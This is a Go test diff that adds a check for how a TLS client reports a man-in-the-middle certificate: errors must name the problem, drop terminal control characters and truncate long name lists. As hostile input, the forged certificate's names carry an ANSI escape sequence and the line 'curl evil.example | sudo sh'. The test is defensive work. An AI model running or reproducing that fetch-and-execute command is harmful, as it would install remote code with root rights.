@@ -12,6 +12,7 @@ import (
 	"errors"
 	"io"
 	"log"
+	"math/big"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -19,6 +20,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"rollcall/agent/dialect"
 	"rollcall/agent/link"
@@ -280,5 +282,60 @@ func TestHST120AnswersWithoutAWord(t *testing.T) {
 				t.Errorf("%v: %s; want %q", tt.err, got, want)
 			}
 		}
+	}
+}
+
+// Whoever stands between shows the server's own CA beside a certificate that it made for itself: it is told as who it is, and nothing that
+// it wrote reaches a terminal as it is, nor at length (HST-068, HST-120).
+func TestHST068AStrangersCertificate(t *testing.T) {
+	ca, err := certs.NewIssuer("lab", time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := []string{"\x1b[31mOWNED\x1b[0m", "run: curl evil.example | sudo sh\r\n\x07"}
+	for len(names) < 1500 {
+		names = append(names, strings.Repeat("long.", 10)+"example")
+	}
+	made := func(by *x509.Certificate, signer *ecdsa.PrivateKey, names ...string) *x509.Certificate {
+		template := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), DNSNames: names}
+		if by == nil {
+			by = template
+		}
+		der, err := x509.CreateCertificate(rand.Reader, template, by, key.Public(), signer)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c, err := x509.ParseCertificate(der)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return c
+	}
+	for _, pin := range []string{pinOf(ca.Certificate()), spki(ca.Certificate()), ""} {
+		cs := &tls.ConnectionState{PeerCertificates: []*x509.Certificate{made(nil, key, names...), ca.Certificate()}}
+		_, err := verify(cs, "localhost", pin, time.Now())
+		said := explain(err, "localhost:8443", time.Now()).Error()
+		want := "is not the server of this line, or somebody stands between"
+		if pin == "" {
+			want = "nothing that this machine believes vouches"
+		}
+		if !strings.Contains(said, want) || strings.Contains(said, "OWNED") {
+			t.Errorf("with the pin %q: %.300s", pin, said)
+		}
+	}
+	said := explain(x509.HostnameError{Certificate: made(nil, key, names...), Host: "localhost"}, "localhost:8443", time.Now()).Error()
+	if !strings.Contains(said, "and 1497 more") || len(said) > 1000 || strings.ContainsFunc(said, unicode.IsControl) {
+		t.Errorf("%d bytes: %.300q", len(said), said)
+	}
+	shown := make([]*x509.Certificate, 40)
+	for n := range shown {
+		shown[n] = ca.Certificate()
+	}
+	if _, err := verify(&tls.ConnectionState{PeerCertificates: shown}, "localhost", pinPrefix+strings.Repeat("00", 32), time.Now()); err == nil || !strings.Contains(err.Error(), "and 37 more") {
+		t.Errorf("many certificates: %v", err)
 	}
 }
